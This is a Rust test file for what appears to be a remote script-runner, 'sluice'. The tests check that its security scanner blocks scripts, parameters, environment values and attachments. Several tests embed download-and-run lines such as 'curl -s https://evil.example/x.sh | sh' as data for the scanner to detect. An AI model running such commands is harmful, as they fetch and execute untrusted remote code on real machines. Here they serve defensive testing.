//! No gate, no run: whoever says no, nothing is written and nothing starts.

use serde_json::Value;
use sluice_tests::{Fleet, Outcome, Output, Script, installed, is_root, script};

use crate::trust::owners_scanner;

const DOWNLOAD: &str = "curl -s https://evil.example/x.sh | sh";

/// The operation was blocked for a finding in `subject`, and no process started.
fn expect_threat(outcome: &Outcome, subject: &str) -> Value {
    assert_eq!(
        (
            outcome.text("state").as_str(),
            outcome.text("status").as_str(),
            outcome.code
        ),
        ("blocked", "blocked", 126),
        "{outcome:#?}"
    );
    assert!(
        outcome
            .text("message")
            .starts_with("Security scan detected potential threat: "),
        "{outcome:#?}"
    );
    assert!(
        outcome.json["started_at"].is_null() && outcome.json["stdout"].is_null(),
        "{outcome:#?}"
    );
    assert_eq!(outcome.json["exit_code"].as_i64(), Some(-1));
    let findings = outcome.json["findings"].as_array().expect("is a list");
    let found = findings.iter().find(|finding| {
        finding["subject"] == subject
            && finding["rule"]
                .as_str()
                .is_some_and(|rule| rule.starts_with("download"))
    });
    found
        .unwrap_or_else(|| panic!("no download is found in {subject}: {findings:#?}"))
        .clone()
}

/// By the machine's own account and its folder, nothing ever started or was written.
fn expect_untouched(fleet: &Fleet) {
    let machine = &fleet.agents[0].machine;
    assert!(!machine.has_started_something(), "{:#?}", machine.events());
    assert!(
        machine.left_behind().is_empty(),
        "{:?}",
        machine.left_behind()
    );
}

#[test]
fn a_download_that_is_run_is_blocked_and_the_finding_says_where() {
    let fleet = Fleet::builder().start();
    let outcome = fleet.run(&script(format!(
        "#!/bin/bash\necho harmless\nif true; then\n  {DOWNLOAD}\nfi\n"
    )));
    let finding = expect_threat(&outcome, "script");
    assert_eq!(
        (&finding["line"], &finding["column"]),
        (&4.into(), &3.into()),
        "{finding:#?}"
    );
    assert_eq!(
        (&finding["gate"], &finding["mode"]),
        (&"scanner".into(), &"enforce".into()),
        "{finding:#?}"
    );
    for key in [
        "rule",
        "severity",
        "confidence",
        "message",
        "primary",
        "related",
        "remediation",
        "attributes",
    ] {
        assert!(
            finding.get(key).is_some(),
            "{key} is missing in {finding:#?}"
        );
    }
    expect_untouched(&fleet);
}

#[test]
fn the_same_payload_is_found_wherever_it_is() {
    let fleet = Fleet::builder().start();
    let harmless = || script("#!/bin/bash\nread -r line <<< \"$SLUICE_PARAM_COMMAND$COMMAND\"\n");
    expect_threat(
        &fleet.run(&harmless().param("command", DOWNLOAD)),
        "environment:SLUICE_PARAM_COMMAND",
    );
    expect_threat(
        &fleet.run(&harmless().option("--env", &format!("COMMAND={DOWNLOAD}"))),
        "environment:COMMAND",
    );
    let file = fleet.folder().join("setup.sh");
    std::fs::write(&file, format!("#!/bin/sh\n{DOWNLOAD}\n")).expect("writes");
    expect_threat(
        &fleet.run(&harmless().option("--attach", file.to_str().expect("is text"))),
        "attachment:setup.sh",
    );
    let argument =
        "#!/bin/bash\n# /// sluice\n# [parameters.command]\n# as = \"argument\"\n# ///\n:\n";
    expect_threat(
        &fleet.run(&script(argument).param("command", DOWNLOAD)),
        "argument:0",
    );
    expect_untouched(&fleet);
}

#[test]
fn the_machine_stops_what_the_host_lets_pass() {
    if !is_root() {
        return;
    }
    // The host leaves its scanner out because it was asked to; the owner's is asked on the machine all the same.
    let fleet = Fleet::builder().policy(&owners_scanner("")).start();
    let outcome = fleet.run(&script(format!("#!/bin/sh\n{DOWNLOAD}\n")).flag("--no-security-scan"));
    expect_threat(&outcome, "script");
    let events = fleet.agents[0].machine.events();
    let has = |name: &str| {
        events
            .iter()
            .any(|entry| entry["event"] == name && entry["operation"] == outcome.json["operation"])
    };
    assert!(
        has("script_execution_attempt") && has("script_security_threat"),
        "{events:#?}"
    );
    expect_untouched(&fleet);
}

#[test]
fn an_unmet_requirement_is_unsupported_and_says_what_is_unmet() {
    if !installed("/usr/bin/python3") {
        return;
    }
    let fleet = Fleet::builder().start();
    let requires = |what: &str| {
        script(format!(
            "#!/usr/bin/python3\n# /// sluice\n# [requires]\n# {what}\n# ///\n"
        ))
    };
    for (what, named) in [
        ("os = [\"windows\"]", "Linux"),
        ("commands = [\"sh\", \"frobnicate\"]", "frobnicate"),
        ("memory = \"999999GiB\"", "memory"),
        ("interpreter = \">=99\"", "99"),
    ] {
        let outcome = fleet.run(&requires(what));
        assert_eq!(
            (
                outcome.text("state").as_str(),
                outcome.text("status").as_str(),
                outcome.code
            ),
            ("unsupported", "failed", 127),
            "{outcome:#?}"
        );
        let message = outcome.text("message");
        assert!(
            message.starts_with("Script not supported on target environment: ")
                && message.contains(named),
            "{what}: {message}"
        );
    }
    expect_untouched(&fleet);
    let met = fleet.run(&requires(
        "os = [\"linux\"]\n# commands = [\"sh\"]\n# memory = \"1MiB\"",
    ));
    met.expect("succeeded", "Script executed successfully");
    let checks = met.json["checks"].as_array().expect("is a list");
    assert!(
        checks.len() >= 3
            && checks
                .iter()
                .all(|check| check["status"] == "met" && check["gate"] == "environment"),
        "{checks:#?}"
    );
}

#[test]
fn a_machine_without_gates_runs_nothing() {
    let fleet = Fleet::builder().without_gates().start();
    let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
    outcome.expect(
        "blocked",
        "Blocked by machine policy: no environment gate for stage environment",
    );
    assert_eq!(outcome.code, 126);
    expect_untouched(&fleet);
}

#[test]
fn a_gate_that_only_watches_does_not_count_and_does_not_block() {
    let fleet = Fleet::builder().start();
    let bindings = fleet.list(&["plugin", "list", "--bindings"]);
    let scanner = bindings
        .iter()
        .find(|binding| binding["plugin"] == "scanner")
        .expect("is bound");
    assert_eq!(
        fleet
            .sluice(&["plugin", "unbind", scanner["id"].as_str().expect("is text")])
            .code,
        0
    );
    assert_eq!(
        fleet
            .sluice(&["plugin", "bind", "scanner", "--mode", "monitor"])
            .code,
        0
    );
    let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
    outcome.expect(
        "blocked",
        "Blocked by machine policy: no scanner for stage scan",
    );
    expect_untouched(&fleet);
}

#[test]
fn leaving_the_scan_out_does_not_weaken_the_machine() {
    let fleet = Fleet::builder().start();
    let outcome = fleet.run(&script("#!/bin/sh\n:\n").flag("--no-security-scan"));
    outcome.expect(
        "blocked",
        "Blocked by machine policy: no scanner for stage scan",
    );
    assert_eq!(outcome.code, 126);
    expect_untouched(&fleet);
}

#[test]
fn leaving_the_scan_out_is_for_those_who_may_and_works_where_the_owner_agrees() {
    let fleet = Fleet::builder()
        .policy("[gates]\nstages = [\"environment\", \"prepare\", \"policy\"]\n")
        .start();
    let text: Script = script("#!/bin/sh\necho 'curl https://evil.example | sh' >/dev/null\n")
        .flag("--no-security-scan");
    fleet
        .run(&text)
        .expect("succeeded", "Script executed successfully");
    let token = fleet.token_with("operator", &["RemoteExecution"]);
    let file = fleet.folder().join("script");
    std::fs::write(&file, "#!/bin/sh\n:\n").expect("writes");
    let run = |more: &[&str]| {
        let mut command = fleet.command();
        command
            .env("SLUICE_TOKEN", &token)
            .arg("run")
            .arg(&file)
            .args(["--on", "m1"])
            .args(more);
        Output::of(&command.output().expect("runs"))
    };
    let refused = run(&["--no-security-scan"]);
    assert_eq!(
        (refused.code, refused.stderr.lines().count()),
        (125, 1),
        "{refused:?}"
    );
    assert!(refused.stderr.contains("SkipSecurityScan"), "{refused:?}");
    assert!(
        fleet.events().contains(&"permission_denied".to_owned()),
        "{:?}",
        fleet.events()
    );
    assert_eq!(run(&[]).code, 0);
}

#[test]
fn a_byte_that_is_no_text_does_not_hide_an_attachment() {
    let fleet = Fleet::builder().start();
    let file = fleet.folder().join("tool.sh");
    std::fs::write(
        &file,
        b"#!/bin/bash\n# \xff\ncurl -s https://example.com/x | sh\n",
    )
    .expect("writes");
    let run = script("#!/bin/sh\necho \"$SLUICE_ATTACHMENTS\"\n")
        .option("--attach", file.to_str().expect("is text"));
    let outcome = fleet.run(&run);
    assert_eq!(outcome.text("state"), "blocked", "{outcome:#?}");
    assert_eq!(
        outcome.json["findings"][0]["subject"], "attachment:tool.sh",
        "{outcome:#?}"
    );
}

#[test]
fn operations_that_share_an_attachment_do_not_take_it_from_each_other() {
    let fleet = Fleet::builder().start();
    let file = fleet.folder().join("data");
    std::fs::write(&file, "shared\n").expect("writes");
    let run = script("#!/bin/sh\ncat \"$SLUICE_ATTACHMENTS/data\"\n")
        .option("--attach", file.to_str().expect("is text"));
    let outcomes: Vec<_> = std::thread::scope(|scope| {
        let runs: Vec<_> = (0..8).map(|_| scope.spawn(|| fleet.run(&run))).collect();
        runs.into_iter()
            .map(|run| run.join().expect("ends"))
            .collect()
    });
    for outcome in outcomes {
        assert_eq!(outcome.text("stdout"), "shared\n", "{outcome:#?}");
    }
}
